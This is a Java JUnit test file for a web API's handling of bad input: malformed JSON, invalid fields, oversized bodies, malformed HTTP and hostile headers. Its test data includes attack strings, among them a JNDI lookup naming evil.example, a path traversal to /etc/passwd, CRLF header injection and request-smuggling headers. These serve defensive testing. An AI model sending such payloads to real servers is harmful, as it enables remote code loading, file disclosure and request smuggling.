package dev.gangway.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What bad input gets: a problem document with a stable code that names what to mend, and no
/// effect. The last is checked after every test: the application was asked for nothing.
@SuppressWarnings("StringConcatToTextBlock") // Line ends are part of what is sent here.
final class BadInputTest {

  private static final RunningWeb WEB = RunningWeb.start();

  private static final String PURCHASE = "/api/v1/purchases/" + People.PURCHASE;
  private static final String CHOICE = "/api/v1/plan-offers/" + People.OFFER + "/choice";
  private static final String RESET = "/api/v1/password-resets/" + People.token('r').characters();

  @AfterAll
  static void stop() {
    WEB.close();
  }

  @BeforeEach
  void forget() {
    WEB.application.asked.clear();
  }

  @AfterEach
  void nothing_was_asked_of_the_application() {
    assertThat(WEB.application.asked).isEmpty();
  }

  /// Every call that has to have a body.
  static Stream<List<String>> withBody() {
    return Stream.of(
        List.of("POST", "/api/v1/registrations"),
        List.of("POST", "/api/v1/registrations/resend"),
        List.of("POST", "/api/v1/activations"),
        List.of("POST", "/api/v1/sessions"),
        List.of("POST", "/api/v1/password-resets"),
        List.of("PUT", RESET),
        List.of("PUT", "/api/v1/account/profile"),
        List.of("POST", CHOICE),
        List.of("POST", "/api/v1/billing/promo-codes"));
  }

  /// Every call that may have a body.
  static Stream<List<String>> takingBody() {
    return Stream.concat(
        withBody(),
        Stream.of(
            List.of("POST", "/api/v1/account/setup"),
            List.of("POST", "/api/v1/plan-offers"),
            List.of("POST", PURCHASE + "/confirmation"),
            List.of("POST", PURCHASE + "/cancellation"),
            List.of("POST", "/api/v1/billing/portal"),
            List.of("POST", "/api/v1/billing/card")));
  }

  private static RunningWeb.Reply reply(String response) {
    OpenApiContract.Received received = RawConnection.parse(response);
    return new RunningWeb.Reply(received.status(), received.headers(), received.body());
  }

  private static RunningWeb.Request call(List<String> call) {
    return WEB.send(call.getFirst(), call.getLast()).asAda();
  }

  @Nested
  class Json {

    @ParameterizedTest
    @MethodSource("dev.gangway.web.BadInputTest#takingBody")
    void that_is_malformed_is_refused_everywhere(List<String> call) {
      for (String text :
          List.of(
              "{",
              "{\"email\": \"a",
              "{\"email\": }",
              "{'email': 1}",
              "{\"email\": 1,}",
              "{} {}",
              "{}x",
              "// {}",
              "nul",
              "\u0000",
              "[".repeat(1000),
              "{\"a\":".repeat(20) + "1" + "}".repeat(20),
              "\ufeff{}")) {
        call(call).body("application/json", text).send().isProblem(400, "malformed-json");
      }
    }

    @ParameterizedTest
    @MethodSource("dev.gangway.web.BadInputTest#takingBody")
    void that_is_no_object_is_refused_everywhere(List<String> call) {
      for (String text : List.of("[]", "null", "true", "0", "\"{}\"", "[{\"email\":1}]")) {
        call(call).body("application/json", text).send().isInvalid("body wrong-type");
      }
    }

    @ParameterizedTest
    @MethodSource("dev.gangway.web.BadInputTest#takingBody")
    void with_a_field_that_nobody_knows_is_refused_everywhere(List<String> call) {
      RunningWeb.Reply reply = call(call).json("{'surprise': {'email': 'ada@example.com'}}").send();

      reply.isProblem(400, "request-invalid");
      assertThat(reply.body()).contains("\"field\":\"surprise\",\"code\":\"unknown\"");
    }

    @Test
    void that_is_not_utf8_is_refused() {
      String answer =
          RawConnection.send(
              WEB.port(),
              "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                  + "Content-Type: application/json\r\nContent-Length: 13\r\n\r\n"
                  + "{\"email\":\"\u00e4\"}");

      assertThat(answer).startsWith("HTTP/1.1 400 ").contains("malformed-json", "UTF-8");
    }
  }

  @Nested
  class Fields {

    @Test
    void that_are_wrong_are_all_named_at_once() {
      RunningWeb.Reply reply =
          WEB.post("/api/v1/registrations")
              .header("Idempotency-Key", "a b")
              .json(
                  """
                  {'email': 'nobody', 'password': 'short', 'name': '  ', 'partner': 7,
                   'promoCode': '', 'locale': 'de', 'admin': true}
                  """)
              .send();

      reply.isInvalid(
          "Idempotency-Key bad-format",
          "email bad-format",
          "password too-short",
          "name blank",
          "partner wrong-type",
          "promoCode too-short",
          "locale not-allowed",
          "admin unknown");
    }

    @Test
    void that_are_missing_are_all_named() {
      WEB.post("/api/v1/registrations")
          .json("{}")
          .send()
          .isInvalid("email required", "password required");
      WEB.post("/api/v1/sessions")
          .json("{}")
          .send()
          .isInvalid("email required", "password required");
      WEB.put(RESET).json("{}").send().isInvalid("password required");
      WEB.post(CHOICE).asAda().json("{}").send().isInvalid("option required");
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "true", "1", "1e99", "[]", "{}", "['ada@example.com']"})
    void of_another_type_are_named(String value) {
      WEB.post("/api/v1/registrations")
          .json("{'email': " + value + ", 'password': " + value + "}")
          .send()
          .isInvalid("email wrong-type", "password wrong-type");
      WEB.put("/api/v1/account/profile")
          .asAda()
          .json("{'kind': " + value + "}")
          .send()
          .isInvalid("kind wrong-type");
      WEB.post("/api/v1/activations")
          .json("{'token': " + value + "}")
          .send()
          .isInvalid("token wrong-type");
    }

    @Test
    void that_are_too_long_are_named() {
      WEB.post("/api/v1/registrations")
          .json(
              "{'email': '%s@example.com', 'password': '%s', 'name': '%s', 'partner': '%s'}"
                  .formatted("a".repeat(243), "p".repeat(129), "n".repeat(201), "q".repeat(101)))
          .send()
          .isInvalid("email too-long", "password too-long", "name too-long", "partner too-long");
      WEB.post("/api/v1/sessions")
          .json("{'email': 'ada@example.com', 'password': '" + "p".repeat(129) + "'}")
          .send()
          .isInvalid("password too-long");
      WEB.post("/api/v1/activations")
          .json("{'token': '" + "t".repeat(257) + "'}")
          .send()
          .isInvalid("token too-long");
      WEB.post(CHOICE)
          .asAda()
          .json("{'option': '" + "o".repeat(101) + "'}")
          .send()
          .isInvalid("option too-long");
      WEB.put("/api/v1/account/profile")
          .asAda()
          .json("{'name': '" + "🏁".repeat(150) + "', 'company': '" + "c".repeat(201) + "'}")
          .send()
          .isProblem(400, "request-invalid");
    }

    @Test
    void that_are_empty_or_blank_are_named() {
      WEB.post("/api/v1/sessions")
          .json("{'email': '', 'password': ''}")
          .send()
          .isInvalid("email bad-format", "password too-short");
      WEB.put("/api/v1/account/profile")
          .asAda()
          .json("{'name': ' \\t ', 'company': '', 'locale': '', 'kind': ''}")
          .send()
          .isInvalid("name blank", "company too-short", "locale not-allowed", "kind not-allowed");
      WEB.post(CHOICE).asAda().json("{'option': ''}").send().isInvalid("option too-short");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\u0000", "\\ud800", "\\udc00", "\\udc00\\ud800", "\\ud800x"})
    void with_nul_or_half_a_character_are_named(String half) {
      WEB.post("/api/v1/sessions")
          .json("{'email': 'ada@example.com', 'password': 'abc" + half + "'}")
          .send()
          .isInvalid("password bad-format");
      WEB.put("/api/v1/account/profile")
          .asAda()
          .json("{'name': 'Ada" + half + "'}")
          .send()
          .isInvalid("name bad-format");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\r\\n", "\\u0007", "\\u0085", "\\u007f"})
    void with_control_characters_are_named(String control) {
      WEB.post("/api/v1/registrations")
          .json(
              "{'email': 'ada@example.com', 'password': 'correct horse battery', 'name': 'A%sda'}"
                  .formatted(control))
          .send()
          .isInvalid("name bad-format");
      WEB.post("/api/v1/registrations/resend")
          .json("{'email': 'ada%s@example.com'}".formatted(control))
          .send()
          .isInvalid("email bad-format");
    }

    @Test
    void that_stand_twice_are_named() {
      WEB.post("/api/v1/sessions")
          .json("{'email': 'a@example.com', 'password': 'x', 'email': 'b@example.com'}")
          .send()
          .isInvalid("email duplicate");
    }

    @Test
    void with_hostile_names_are_shown_harmlessly_and_not_all_of_them() {
      StringBuilder many = new StringBuilder("{\"\": 1, \"\\ud800<script>\\u0000\": 1");
      for (int i = 0; i < 500; i++) {
        many.append(",\"field").append(i).append("\": 1");
      }

      RunningWeb.Reply reply =
          WEB.post("/api/v1/account/setup")
              .asAda()
              .body("application/json", many.append('}').toString())
              .send();

      reply.isProblem(400, "request-invalid");
      assertThat(reply.body().length()).isLessThan(3000);
    }

    @Test
    void never_come_back_with_their_value() {
      RunningWeb.Reply reply =
          WEB.post("/api/v1/sessions")
              .json("{'email': 'my-secret-address', 'password': 5550123}")
              .send();

      assertThat(reply.body()).doesNotContain("my-secret-address", "5550123");
    }
  }

  @Nested
  class Bodies {

    @ParameterizedTest
    @MethodSource("dev.gangway.web.BadInputTest#takingBody")
    void that_are_too_large_are_refused_everywhere(List<String> call) {
      String text = "{\"email\":\"" + "a".repeat(64 * 1024) + "\"}";

      call(call).body("application/json", text).send().isProblem(413, "body-too-large");
    }

    @Test
    void may_be_as_large_as_they_may_be() {
      String text = "{\"password\":\"" + "a".repeat(64 * 1024 - 15) + "\"}";
      assertThat(text.getBytes(UTF_8)).hasSize(64 * 1024);

      WEB.put(RESET).body("application/json", text).send().isInvalid("password too-long");
    }

    @Test
    void that_are_too_large_are_refused_without_a_length_too() {
      String chunk = "1000\r\n" + "a".repeat(4096) + "\r\n";

      String answer =
          RawConnection.send(
              WEB.port(),
              "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
                  + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                  + chunk.repeat(17)
                  + "0\r\n\r\n");

      assertThat(answer).startsWith("HTTP/1.1 413 ");
      assertThat(RunningWeb.contract().violations("BodyTooLarge", 413, RawConnection.parse(answer)))
          .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Content-Length: 1073741824", "Transfer-Encoding: chunked\r\nX: y"})
    void that_claim_to_be_huge_are_refused_before_they_come(String header) {
      String answer =
          RawConnection.send(
              WEB.port(),
              "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
                  + "Content-Type: application/json\r\n"
                  + header
                  + "\r\n\r\n"
                  + (header.startsWith("T") ? "7fffffff\r\n" : ""));

      assertThat(answer).startsWith("HTTP/1.1 413 ");
    }

    @ParameterizedTest
    @MethodSource("dev.gangway.web.BadInputTest#withBody")
    void that_are_missing_are_named(List<String> call) {
      call(call).send().isInvalid("body required");
      call(call).body("application/json", "").send().isInvalid("body required");
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "application/xml",
          "application/jsonp",
          "application/json; charset=iso-8859-1",
          "application/json, text/plain",
          "json",
          ";;;",
          "*/*"
        })
    void of_another_media_type_are_refused(String mediaType) {
      for (List<String> call : takingBody().toList()) {
        call(call).body(mediaType, "{}").send().isProblem(415, "media-type-unsupported");
      }
    }

    @Test
    void that_are_compressed_are_refused() {
      RunningWeb.Reply reply =
          WEB.post("/api/v1/account/setup")
              .asAda()
              .header("Content-Encoding", "gzip")
              .json("{}")
              .send();

      reply.isProblem(415, "media-type-unsupported");
    }
  }

  @Nested
  class Places {

    @ParameterizedTest
    @ValueSource(
        strings = {
          "/api",
          "/api/",
          "/api/v1",
          "/api/v2/sessions",
          "/api/v1/registrations/",
          "/api/v1/plan-offers/current/choice/x",
          "/api/v1/onboarding/..%2fregistrations",
          "/api/v1/%2e%2e/%2e%2e/etc/passwd",
          "/api/v1/sessions;x=y",
          "/api/v1/%00",
          "/api/v1/partners/",
          "/api/index.html"
        })
    void that_do_not_exist_are_not_found_whatever_the_method(String path) {
      for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS")) {
        WEB.send(method, path).send().isProblem(404, "not-found");
      }
    }

    @Test
    void that_exist_refuse_other_methods_and_name_theirs() {
      RunningWeb.Reply reply = WEB.get("/api/v1/registrations").send();
      reply.isProblem(405, "method-not-allowed");
      assertThat(reply.header("Allow")).isEqualTo("POST");

      reply = WEB.send("PATCH", "/api/v1/sessions/current").send();
      reply.isProblem(405, "method-not-allowed");
      assertThat(reply.header("Allow")).isEqualTo("GET, HEAD, DELETE");

      reply = WEB.send("OPTIONS", "/api/v1/account/setup").send();
      reply.isProblem(405, "method-not-allowed");

      reply = WEB.send("BREW", "/livez").send();
      reply.isProblem(405, "method-not-allowed");
      assertThat(reply.header("Allow")).isEqualTo("GET, HEAD");
    }
  }

  @Nested
  class Garbage {

    @ParameterizedTest
    @ValueSource(
        strings = {
          "hello\r\n\r\n",
          "\r\n\r\n",
          "GET\r\n\r\n",
          "GET /\r\n\r\n",
          "GET / HTTP/9.9\r\n\r\n",
          "GET / HTTP/1.0\r\n\r\n",
          "GET /livez HTTP/1.1\r\n\r\n",
          "GET /livez HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
          "GET /livez HTTP/1.1\r\nHost: a b\r\n\r\n",
          "GET /livez HTTP/1.1\r\nHost\r\n\r\n",
          "GET /livez HTTP/1.1\r\nHost: localhost\r\nBad Header: x\r\n\r\n",
          "GET /livez HTTP/1.1\r\nHost: localhost\r\nX: \u0000\r\n\r\n",
          "GET /%zz HTTP/1.1\r\nHost: localhost\r\n\r\n",
          "GET /% HTTP/1.1\r\nHost: localhost\r\n\r\n",
          "GET /a\u0000b HTTP/1.1\r\nHost: localhost\r\n\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nContent-Length: x\r\n\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1, 2\r\n\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
              + "Content-Length: 99999999999999999999\r\n\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
              + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
              + "Transfer-Encoding: gzip, chunked\r\n\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
              + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
          "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
              + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\n"
        })
    void is_refused_as_what_is_not_http(String bytes) {
      String answer = RawConnection.send(WEB.port(), bytes);

      assertThat(answer).startsWith("HTTP/1.1 400 ");
      assertThat(
              RunningWeb.contract()
                  .violations("MalformedRequest", 400, RawConnection.parse(answer)))
          .as(answer)
          .isEmpty();
      assertThat(answer).contains("X-Content-Type-Options: nosniff");
    }

    @Test
    void that_is_too_long_is_refused() {
      String longPath = "GET /" + "a".repeat(100_000) + " HTTP/1.1\r\nHost: localhost\r\n\r\n";
      String longHeader =
          "GET /livez HTTP/1.1\r\nHost: localhost\r\nX: " + "a".repeat(100_000) + "\r\n\r\n";
      String manyHeaders =
          "GET /livez HTTP/1.1\r\nHost: localhost\r\n" + "X: aaaaaaaa\r\n".repeat(10_000) + "\r\n";

      for (String bytes : List.of(longPath, longHeader, manyHeaders)) {
        assertThat(RawConnection.send(WEB.port(), bytes)).startsWith("HTTP/1.1 400 ");
      }
    }

    @Test
    void after_a_good_request_is_refused_too() {
      String answer =
          RawConnection.send(
              WEB.port(), "GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\nhello\r\n\r\n");

      assertThat(answer).startsWith("HTTP/1.1 200 ").contains("HTTP/1.1 400 ");
    }
  }

  @Nested
  class Headers {

    @ParameterizedTest
    @ValueSource(
        strings = {
          "Cookie: =\r\nCookie: ;;;\r\nCookie: gangway_session=%00",
          "Cookie: \u00ff\u00fe=\u00fd",
          "Accept: ;;;q=x,,,*/*/*",
          "Accept-Encoding: zip;q=-1",
          "Content-Type: \u00e4/\u00f6",
          "If-None-Match: \"\"\"",
          "If-Modified-Since: yesterday",
          "Range: bytes=9-1,x-y",
          "X-Forwarded-For: ,,,evil,::%1,999.999.999.999",
          "Forwarded: for=\"_x",
          "Authorization: Basic !!!",
          "Upgrade: h2c\r\nConnection: Upgrade\r\nHTTP2-Settings: x",
          "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x",
          "Expect: 200-ok",
          "Transfer-Encoding-Not: chunked",
          ": x",
          "X: ${jndi:ldap://evil.example/x}"
        })
    void that_are_hostile_do_no_harm(String headers) {
      String answer =
          RawConnection.send(
              WEB.port(),
              "GET /api/v1/sessions/current HTTP/1.1\r\nHost: localhost\r\n"
                  + headers
                  + (headers.contains("Connection:") ? "" : "\r\nConnection: close")
                  + "\r\n\r\n"
                  + (headers.contains("Connection:")
                      ? "GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
                      : ""));

      assertThat(answer).matches("(?s)HTTP/1.1 40[01] .*");
    }

    @Test
    void with_line_breaks_in_them_make_no_new_headers() {
      RunningWeb.Reply reply = WEB.get("/api/v1/partners/a%0d%0aSet-Cookie:%20x=y").send();

      reply.isProblem(404, "not-found");
      assertThat(reply.header("Set-Cookie")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"  ", "a b", "schlüssel"})
    void that_are_no_idempotency_keys_are_named(String key) {
      RunningWeb.Reply reply =
          reply(
              RawConnection.send(
                  WEB.port(),
                  "POST /api/v1/plan-offers HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                      + "Cookie: gangway_session="
                      + People.SESSION.characters()
                      + "\r\nIdempotency-Key: "
                      + key
                      + "\r\nContent-Length: 0\r\n\r\n"));

      reply.isProblem(400, "request-invalid");
      assertThat(reply.body()).contains("\"field\":\"Idempotency-Key\"");
    }

    @Test
    void that_name_an_idempotency_key_twice_or_at_length_are_named() {
      WEB.post("/api/v1/plan-offers")
          .asAda()
          .header("Idempotency-Key", "k".repeat(256))
          .send()
          .isInvalid("Idempotency-Key too-long");
      WEB.post("/api/v1/plan-offers")
          .asAda()
          .header("Idempotency-Key", "a")
          .header("Idempotency-Key", "b")
          .send()
          .isInvalid("Idempotency-Key duplicate");
    }
  }

  @Nested
  class WithoutASession {

    @Test
    void everything_that_needs_one_says_so_before_anything_else() {
      for (List<String> call :
          List.of(
              List.of("GET", "/api/v1/onboarding"),
              List.of("PUT", "/api/v1/account/profile"),
              List.of("POST", "/api/v1/account/setup"),
              List.of("POST", "/api/v1/plan-offers"),
              List.of("GET", "/api/v1/plan-offers/current"),
              List.of("POST", CHOICE),
              List.of("POST", "/api/v1/plan-offers/1/choice"),
              List.of("GET", "/api/v1/purchases/1"),
              List.of("POST", PURCHASE + "/confirmation"),
              List.of("POST", PURCHASE + "/cancellation"),
              List.of("GET", "/api/v1/billing"),
              List.of("POST", "/api/v1/billing/portal"),
              List.of("POST", "/api/v1/billing/card"),
              List.of("POST", "/api/v1/billing/promo-codes"))) {
        WEB.send(call.getFirst(), call.getLast())
            .body("text/plain", "nonsense")
            .send()
            .isProblem(401, "session-required");
      }
    }
  }
}
